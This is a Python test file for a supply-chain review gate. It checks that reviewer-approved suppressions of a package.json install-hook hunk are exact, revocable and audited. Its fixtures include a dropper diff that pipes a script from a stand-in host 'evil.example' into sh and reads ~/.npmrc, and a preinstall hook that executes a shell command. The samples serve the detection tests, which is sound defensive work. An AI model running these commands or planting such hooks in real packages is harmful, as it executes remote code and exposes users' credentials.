"""Suppressions: a reviewer's allow of exact evidence (rule, file, hunk sha256) lets the same hunk
pass later, named in the report; anything new in the same file still blocks; revocable, audited."""

from __future__ import annotations

import getpass
from pathlib import Path

import pytest
from typer.testing import CliRunner

from worker.cli import app
from worker.pipeline.review import resolve
from worker.pipeline.suppressions import SuppressionError, evidence_key, revoke, suppress_gate
from worker.settings import Settings
from worker.tasks.embedded import EmbeddedGate

POLICY = str(Path(__file__).resolve().parents[1] / "fixtures" / "policies" / "package-rules.yaml")
HOOK = """diff --git a/package.json b/package.json
--- a/package.json
+++ b/package.json
@@ -1,8 +1,9 @@
 {
   "name": "cline",
   "version": "2.3.0",
   "scripts": {
+    "postinstall": "npm install -g openclaw@latest",
     "build": "tsc -p ."
   },
   "license": "Apache-2.0"
 }
"""
README = """diff --git a/README.md b/README.md
--- a/README.md
+++ b/README.md
@@ -1,3 +1,3 @@
 # cline
-Version 2.3.0
+Version {v}
"""
DROPPER = """diff --git a/install.js b/install.js
new file mode 100644
--- /dev/null
+++ b/install.js
@@ -0,0 +1,3 @@
+const { execSync } = require("child_process");
+execSync("curl -s https://evil.example/payload.sh | sh");
+require("fs").readFileSync(process.env.HOME + "/.npmrc");
"""


@pytest.fixture()
def suppressed(tmp_path: Path) -> tuple[EmbeddedGate, str]:
    """The hook release quarantined by the pre-check, released by ann, its evidence suppressed."""
    gate = EmbeddedGate(Settings(data_dir=tmp_path / "canary"))
    first = gate.submit((HOOK + README.format(v="2.3.1")).encode(), [POLICY]).gates[0]
    assert first.status == "quarantine", first.reason
    resolve(gate.rt, first.id, "allow", "ann", "the vendor's own global helper; checked")
    made = suppress_gate(gate.rt, first.id, "ann", "vendor helper, reviewed", days=90)
    assert made and all(s.path == "package.json" for s in made)
    return gate, first.id


def test_the_same_hunk_in_a_later_release_passes_with_the_suppression_named(suppressed) -> None:
    """Next release: same package.json hunk, another README change: allowed, the reason names the suppression."""
    gate, _ = suppressed
    later = gate.submit((HOOK + README.format(v="2.3.2")).encode(), [POLICY]).gates[0]
    assert later.status == "allow", later.reason
    assert "suppression" in (later.reason or "") and "ann" in (later.reason or "")


def test_a_changed_hunk_in_the_same_file_still_blocks(suppressed) -> None:
    """One more line in the suppressed hunk changes its sha256: the pre-check blocks again."""
    gate, _ = suppressed
    changed = HOOK.replace(
        '"build"', '"preinstall": "node -e \\"require(\'child_process\').exec(\'id\')\\"",\n     "build"'
    )
    assert gate.submit(changed.encode(), [POLICY]).gates[0].status == "quarantine"


def test_new_evidence_elsewhere_still_blocks(suppressed) -> None:
    """The suppressed hunk plus a new dropper file: the new evidence is not suppressed, so quarantine."""
    gate, _ = suppressed
    assert gate.submit((HOOK + DROPPER).encode(), [POLICY]).gates[0].status == "quarantine"


def test_the_same_hunk_under_another_path_is_not_suppressed(tmp_path: Path, suppressed) -> None:
    """The key is the path and the content together: the same lines in another file do not match."""
    gate, _ = suppressed
    moved = HOOK.replace("package.json", "packages/cli/package.json")
    assert gate.submit(moved.encode(), [POLICY]).gates[0].status == "quarantine"


def test_revoked_suppressions_block_again_and_changes_are_audited(suppressed) -> None:
    """After revoking, the same hunk is quarantined again; added and revoked are on the origin gate's trail."""
    gate, origin = suppressed
    (first, *_) = CliRunner().invoke(
        app, ["review", "suppressions", "--json"], env={"CANARY_DATA_DIR": str(gate.settings.data_dir)}
    ).stdout.splitlines() or [""]
    for s in __import__("worker.pipeline.suppressions", fromlist=["list_suppressions"]).list_suppressions(
        gate.rt
    ):
        revoke(gate.rt, s.id, "bo")
    again = gate.submit((HOOK + README.format(v="2.3.3")).encode(), [POLICY]).gates[0]
    assert again.status == "quarantine"
    events = [e.event for e in gate.rt.repo.audit_trail(origin)]
    assert "suppression:added" in events and "suppression:revoked" in events
    assert first  # the CLI listed it before the revocation


def test_the_cli_suppresses_as_the_reviewer_decide_knows(tmp_path: Path) -> None:
    """`review suppress`/`unsuppress` act as the reviewer mapped to this OS user; a --by naming
    someone else is refused, as `review decide` refuses it."""
    gate = EmbeddedGate(Settings(data_dir=tmp_path / "canary"))
    first = gate.submit(HOOK.encode(), [POLICY]).gates[0]
    resolve(gate.rt, first.id, "allow", "ann", "the vendor's own global helper; checked")
    env = {"CANARY_DATA_DIR": str(gate.settings.data_dir), "CANARY_REVIEW_TOKEN": None}
    runner = CliRunner()
    added = runner.invoke(
        app, ["review", "add-user", "ann", "--os-user", getpass.getuser()], input="a-long-password\n", env=env
    )
    assert added.exit_code == 0, added.output
    other = runner.invoke(app, ["review", "suppress", first.id, "--reason", "ok", "--by", "bo"], env=env)
    assert other.exit_code == 2 and "not you" in other.output
    made = runner.invoke(app, ["review", "suppress", first.id, "--reason", "vendor helper"], env=env)
    assert made.exit_code == 0, made.output
    suppression_id = made.stdout.split("\t")[0]
    gone = runner.invoke(app, ["review", "unsuppress", suppression_id], env=env)
    assert gone.exit_code == 0 and gone.stdout.strip() == f"{suppression_id}\trevoked by ann"
    actors = {e.actor for e in gate.rt.repo.audit_trail(first.id) if e.event.startswith("suppression:")}
    assert actors == {"person:ann"}


def test_only_a_gate_a_person_allowed_can_be_suppressed(tmp_path: Path) -> None:
    """A quarantined gate, or one allowed automatically, cannot be suppressed."""
    gate = EmbeddedGate(Settings(data_dir=tmp_path / "canary"))
    blocked = gate.submit(HOOK.encode(), [POLICY]).gates[0]
    with pytest.raises(SuppressionError, match="not allowed by a reviewer"):
        suppress_gate(gate.rt, blocked.id, "ann", "why", 1)
    fine = gate.submit(README.format(v="9").encode(), [POLICY]).gates[0]
    with pytest.raises(SuppressionError):
        suppress_gate(gate.rt, fine.id, "ann", "why", 1)


def test_evidence_key_names_the_file_and_hashes_only_its_hunk() -> None:
    """Two releases that differ outside the hunk give the same key; the key names the file."""
    from worker.core.models import Evidence, Span

    one, two = (HOOK + README.format(v="1")).encode(), (HOOK + README.format(v="2")).encode()
    where = one.index(b"postinstall")
    ev = Evidence(rule_id="r", span=Span(start=where, end=where + 11))
    assert evidence_key(one, ev) == evidence_key(two, ev)
    assert evidence_key(one, ev).path == "package.json"
